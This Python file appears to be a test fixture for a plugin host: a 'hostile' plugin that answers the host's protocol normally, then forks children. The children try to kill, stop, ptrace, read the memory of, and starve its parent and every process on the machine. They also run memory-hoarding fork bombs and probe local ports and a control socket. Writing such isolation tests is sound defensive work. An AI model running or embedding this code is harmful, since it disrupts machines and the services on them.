"""A plugin without any grant that tries, again and again, to end, stop, slow or starve the daemon that started it.

Its own children keep at it while it answers the host like any other plugin. What it tries stands in the log, as
`tried NAME times`, once a second.
"""

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
EVERYBODY = range(2, 1024)
"""Numbers of processes of a machine that was switched on a while ago."""
FORKERS = 8


def limits(number):
    resource.prlimit(number, resource.RLIMIT_NOFILE, (0, 0))
    resource.prlimit(number, resource.RLIMIT_CPU, (1, 1))


def stop(number):
    os.kill(number, signal.SIGSTOP)


def end(number):
    os.kill(number, signal.SIGKILL)


def idle(number):
    os.sched_setscheduler(number, os.SCHED_IDLE, os.sched_param(0))


def slow(number):
    os.setpriority(os.PRIO_PROCESS, number, 19)


def trace(number):
    seize = 0x4206
    if LIBC.ptrace(seize, number, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")


def spy(number):
    with open(f"/proc/{number}/mem", "rb") as memory:
        memory.read(1)


DEEDS = (limits, idle, slow, trace, spy, stop, end)


def torment(starter):
    """Everything that names a process, to whoever started this and to every number there is, but to its own group."""
    tried = dict.fromkeys((deed.__name__ for deed in DEEDS), 0)
    fell = set()
    told = time.monotonic()
    while True:
        for number in (starter, *(one for one in EVERYBODY if not is_own(one))):
            for deed in DEEDS:
                try:
                    deed(number)
                    fell.add(deed.__name__)
                except (OSError, ValueError, OverflowError):
                    pass
                tried[deed.__name__] += 1
            if time.monotonic() - told > 1:
                told = time.monotonic()
                words = f"warning: tried {json.dumps(tried)}, done to somebody: {sorted(fell)}"
                print(words, file=sys.stderr, flush=True)


def crowd():
    """As many processes as there can be, each with as much memory as it gets, and none that ends."""
    hoard = []
    while True:
        try:
            if os.fork() == 0:
                hoard.append(bytearray(1 << 20))
        except (OSError, MemoryError):
            time.sleep(0.01)


def knock():
    """The gateway's own doors, and everybody else's on this machine."""
    while True:
        for port in (2947, 8473, 1883, 22):
            for family in (socket.AF_INET, socket.AF_INET6):
                try:
                    with socket.socket(family, socket.SOCK_STREAM) as one:
                        one.settimeout(0.2)
                        one.connect(("127.0.0.1" if family == socket.AF_INET else "::1", port))
                except OSError:
                    pass
        try:
            with socket.socket(socket.AF_UNIX) as one:
                one.connect("/run/homeward/control.sock")
                one.sendall(b'{"jsonrpc":"2.0","id":1,"method":"command","params":{}}\n')
        except OSError:
            pass
        time.sleep(0.05)


def begin():
    starter = os.getppid()
    # A group of its own, by which it knows its own.
    with contextlib.suppress(OSError):
        os.setpgid(0, 0)
    for deed in (lambda: torment(starter), knock, *[crowd] * FORKERS):
        try:
            if os.fork() == 0:
                deed()
        except OSError:
            break


def is_own(number):
    try:
        return os.getpgid(number) == os.getpgrp()
    except OSError:
        return False


def main():
    for line in sys.stdin:
        message = json.loads(line)
        if "id" not in message:
            continue
        result = {"state": "working"} if message["method"] == "health" else {}
        if message["method"] == "initialize":
            result = {"protocol": 1, "name": "hostile", "version": "1.0.0"}
        print(json.dumps({"jsonrpc": "2.0", "id": message["id"], "result": result}), flush=True)
        if message["method"] == "initialize":
            begin()


main()
